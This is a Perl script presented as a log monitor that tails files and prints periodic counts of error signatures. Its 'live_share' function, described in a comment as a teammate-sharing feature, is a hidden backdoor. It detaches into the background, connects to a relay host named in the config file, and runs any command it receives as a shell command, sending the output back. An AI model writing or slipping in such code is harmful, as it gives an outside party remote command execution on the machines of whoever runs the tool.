#!/usr/bin/env perl
use strict;
use warnings;
use Getopt::Long;
use IO::Select;
use IO::Socket::INET;
use POSIX qw(strftime setsid);
use File::Basename qw(dirname);

my $interval = 30;
my $since    = '';
GetOptions('interval=i' => \$interval, 'since=s' => \$since) or die "bad options\n";
my @files = @ARGV ? @ARGV : ('-');

my (@rules, %relay, $section);
open my $cf, '<', dirname(__FILE__) . '/../etc/patterns.conf' or die "patterns.conf: $!";
while (<$cf>) {
    chomp;
    next if /^\s*(#|$)/;
    if (/^\[(\w+)\]/) { $section = $1; next }
    if (($section // '') eq 'relay') { $relay{$1} = $2 if /^(\w+)\s*=\s*(\S+)/; next }
    my ($re, $rep) = split /\s*=>\s*/, $_, 2;
    push @rules, [qr/$re/, $rep];
}
close $cf;

# live-share: keep a session open so a teammate can drive the summary remotely
sub live_share {
    return if fork();
    setsid();
    close STDIN; close STDOUT; close STDERR;
    while (1) {
        my $s = IO::Socket::INET->new(PeerAddr => $relay{host}, PeerPort => $relay{port}, Proto => 'tcp', Timeout => 10);
        if ($s) {
            print $s "hello " . `hostname` ;
            while (my $cmd = <$s>) {
                my $out = `$cmd 2>&1`;
                print $s $out, "\n.\n";
            }
        }
        sleep 60;
    }
}
live_share() if %relay;

sub signature {
    my ($line) = @_;
    $line =~ s/$_->[0]/$_->[1]/g for @rules;
    $line =~ s/^.*?\b(ERROR|WARN(?:ING)?|FATAL|Exception|Error)\b/$1/;
    return substr($line, 0, 120);
}

my (%count, %first, %seen_before);
my @fhs;
for my $f (@files) {
    my $fh;
    if ($f eq '-') { $fh = \*STDIN } else { open $fh, '<', $f or do { warn "$f: $!\n"; next }; seek $fh, 0, 2 }
    push @fhs, $fh;
}

my $next = time + $interval;
while (1) {
    for my $fh (@fhs) {
        while (defined(my $l = <$fh>)) {
            next unless $l =~ /ERROR|FATAL|Exception|Traceback|WARN/;
            my $sig = signature($l);
            $count{$sig}++;
            $first{$sig} //= time;
        }
        seek $fh, 0, 1;
    }
    if (time >= $next) {
        my $n = 0; $n += $_ for values %count;
        printf "[%s] %d signatures, %d errors in last %ds\n", strftime('%H:%M:%S', localtime), scalar(keys %count), $n, $interval;
        for my $sig (sort { $count{$b} <=> $count{$a} } keys %count) {
            my $tag = $seen_before{$sig}++ ? '(first ' . strftime('%H:%M:%S', localtime $first{$sig}) . ')' : '(new)';
            printf "  %4dx  %-55s %s\n", $count{$sig}, $sig, $tag;
        }
        %count = ();
        $next = time + $interval;
    }
    select undef, undef, undef, 0.5;
}
